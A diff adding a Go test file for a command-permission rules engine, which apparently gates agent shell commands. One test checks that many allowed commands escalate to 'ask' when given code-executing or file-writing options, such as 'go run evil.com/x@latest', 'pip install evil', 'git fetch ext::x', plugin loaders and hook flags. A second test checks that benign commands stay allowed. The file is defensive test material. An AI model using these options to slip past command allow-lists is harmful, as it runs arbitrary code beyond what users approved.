@@ -1,0 +1,68 @@
+package rules
+
+import (
+	"strings"
+	"testing"
+)
+
+// A rule for a program, or for its first words, is none for what its table does not have: options in any spelling, first words that are
+// not known, behind options too, and all that comes after them (behaviour 830).
+func TestOptionsThatRun(t *testing.T) {
+	for _, command := range []string{
+		"git grep | -Ovi x", "git grep | -nOvi x", "git grep | -LOvi x", "git grep | -O./x x", "git | format-patch -k", "npm | -Cx test",
+		"ctest | -S x", "ctest | --build-and-test x", "clang-tidy | -load=x y", "diff3 | --diff-program=x a b c", "sdiff | -ox a b", "gradle | -Ix test",
+		"mvn | -fx test", "rake | -rx", "rspec | -rx", "rspec | -I x", "pylint | --init-hook=x", "pylint | --load-plug x", "mypy | --python-executable=x",
+		"jest | --config=x", "mocha | -r x", "vitest | --config x", "phpunit | --bootstrap x", "protoc | --plugin=x", "rustc | -Clinker=x", "shuf | -o x",
+		"patch | -ox", "iconv | -ox", "tsc | --outDir x", "luacheck | --formatter x", "golangci-lint run | -cx", "helm template | --post-renderer x",
+		"bundle | exec x", "poetry | run x", "coverage | run x", "gh | alias set x", "gh | extension install x", "ssh-keygen | -Dx",
+		"ldd | x", "sqlite3 | x .shell", "go test | -test.cpuprofile=x", "terraform | -chdir=x plan", "nm | --plugin=x y", "mix | run x",
+		"npm test | -script-shell=x", "npm test | -script-she=x", "npm test | -node-options=x", "npm test | -prefix=x", "npm test | --script-shell x",
+		"go test | -blockprofile=x .", "go test | -mutexprofile=x", "go test | -debug-trace=x", "go test | --o=x", "go test | --C=x", "go vet | -fix",
+		"go build | --ldflags=-linkmode=external ./...", "go build | --overlay=x", "go test | --test.cpuprofile x", "go doc | -http",
+		"npm | --loglevel silent exec -c x", "npm | exe -c x", "npm | add x", "npm | it", "npm | rum x", "npm | pkg set x", "npm | c set x", "npm | innit x",
+		"docker | --context x run y", "docker | -l debug run y", "docker | container run x", "docker container | run x", "docker | create x",
+		"docker image | build x", "kubectl | -n default exec pod", "kubectl | -n x cp a b", "kubectl config | set-credentials u", "pnpm | --filter web exec sh",
+		"pnpm | -F w exec", "yarn | workspace w exec sh", "helm | -n x plugin install", "gh | -R x alias set", "gh release | download", "gh config | set pager x",
+		"cargo | --color always run", "cargo | +nightly run", "cargo | r", "pip | --cache-dir x install evil", "uv | run sh", "uv | tool run", "uv | pip install x",
+		"poetry run | sh -c x", "uv run | x", "bundle exec | x", "docker run | x", "docker exec | x", "go run | evil.com/x@latest", "npm exec | x", "hatch | env run x",
+		"git | remote-ext origin x", "git | merge-index x -a", "git | submodule--helper foreach x", "git | difftool--helper", "git merge | -s x",
+		"git | credential-store --file=x", "git | checkout-index --prefix=x", "git apply | --unsafe-paths", "git | interpret-trailers --in-place x",
+		"git fetch | ext::x", "git ls-remote | -u x y", "git config | core.pager x", "git -c | x=y log",
+		"jest | --global-setup=x", "jest | --testSequencer=x", "vitest | --coverage.customProviderModule=x", "mocha | -u x", "jest | --outputFile=x",
+		"terraform | plan -out=x", "terraform | --chdir=x plan", "gcc | -Wl,-plugin,x y", "gcc | -Xlinker x", "gcc | --output=x y", "gcc | -MF x y", "gcc | @x", "gcc | -fplugin=x",
+		"openssl | rand --out x 5", "ip | net exec x y", "ip | -n x netns", "pytest | --junitxml=x", "pytest | @x", "tsc | --OUTDIR x", "tsc | -outFile x y",
+		"eslint | --cache-location=x", "golangci-lint run | --out.text.path=x", "mypy | @x", "mypy | --html-report x", "ruff check | -o x", "pylint | --output-format=x",
+		"curl | --expand-output x", "curl | --ssl-sessions x", "uniq | - x", "xxd | -r -p - x", "uniq | -- x y", "apt-get | update --option=x", "nmap | -script x",
+		"yq | -s x", "rg | --hostname-bin x", "fd | -gx y", "sort | --output=x", "find | . -fprintf x y", "mvn | evil:plugin:1:run", "awk | -F: \"$x\"",
+		"sed | \" $x\" f", "awk | \" $x\"", "make | X=y", "dotnet | build /logger:x",
+	} {
+		rule, rest, _ := strings.Cut(command, " | ")
+		if v := Judge([]Rule{{Command: rule, Action: "allow"}}, Request{Kind: "execute", Cwd: "/", Command: rule + " " + rest}); v.Action != "ask" {
+			t.Errorf("%s: got %s", command, v.Action)
+		}
+	}
+	for _, command := range []string{"vim", "sqlite3 x", "psql", "ssh x"} {
+		if v := Judge([]Rule{{Command: command, Action: "allow"}}, Request{Kind: "execute", Cwd: "/", Command: "echo x | " + command}); v.Action != "ask" {
+			t.Errorf("%s: got %s", command, v.Action)
+		}
+	}
+}
+
+// What the table has needs no name of its own in a rule (behaviour 830).
+func TestOptionsThatDoNot(t *testing.T) {
+	for _, command := range []string{
+		"git log | --oneline -20", "git diff | --stat HEAD~1", "git | stash list", "git | remote -v", "git commit | -am x", "git ls-files | -oz", "git show | HEAD:x",
+		"git --no-pager | log -5", "git | --no-pager log -5", "git add | -A", "git log | -n 5 --format=%h", "git blame | -L 1,2 x", "git checkout | -b x",
+		"go test | -run X ./... -v -count=1", "go test | --race ./...", "go | mod tidy", "npm test | -- --watchAll=false", "npm run | build", "npm | --silent test",
+		"kubectl | -n x get pods -o yaml", "kubectl | logs deploy/app --tail=50", "docker | logs x --tail 50", "docker | compose ps", "gh | pr view 1 --json x",
+		"cargo test | --workspace -- --nocapture", "rg | -n -g '!x' y src", "find | . -name x -type f -print", "pytest | tests -k 'a and b' -q", "make | -j4 test",
+		"mvn | -q test", "jest | src/x.test.ts -t y", "tree | -L 2", "tar | tzf x", "sort | -k2 -n x", "curl | -s -H 'A: b' http://x", "terraform | plan",
+		"sed | -n 1p \"src/$x\"", "awk | -F: '{print $1}' \"src/$x\"", "uniq | -c x", "gcc | -Wall -c x.c", "git | --version", "rustc | --version",
+	} {
+		rule, rest, _ := strings.Cut(command, " | ")
+		if v := Judge([]Rule{{Command: rule, Action: "allow"}}, Request{Kind: "execute", Cwd: "/", Command: rule + " " + rest}); v.Action != "allow" {
+			t.Errorf("%s: got %s: %s", command, v.Action, v.Why)
+		}
+	}
+}
+
